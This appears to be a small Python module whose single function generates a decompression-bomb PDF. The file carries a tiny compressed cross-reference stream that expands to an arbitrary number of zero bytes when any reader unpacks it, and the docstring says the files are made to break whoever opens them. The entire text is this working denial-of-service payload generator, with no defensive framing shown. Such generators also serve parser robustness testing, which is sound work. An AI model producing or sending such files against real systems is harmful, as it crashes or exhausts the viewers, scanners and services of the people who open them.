"""Files that are made to break whoever opens them."""

import zlib


def unpacks_to(size):
    """A small PDF whose cross-reference stream, which every reader must unpack, is `size` bytes of nothing."""
    packer = zlib.compressobj(1)
    packed = bytearray()
    chunk = bytes(1024 * 1024)
    for _part in range(size // len(chunk)):
        packed += packer.compress(chunk)
    packed += packer.flush()
    header = b"%PDF-1.7\n"
    entries = f"<< /Type /XRef /Size 3 /W [1 4 2] /Root 2 0 R /Filter /FlateDecode /Length {len(packed)} >>"
    stream = b"1 0 obj\n" + entries.encode() + b"\nstream\n" + bytes(packed) + b"\nendstream\nendobj\n"
    return header + stream + b"startxref\n" + str(len(header)).encode() + b"\n%%EOF\n"
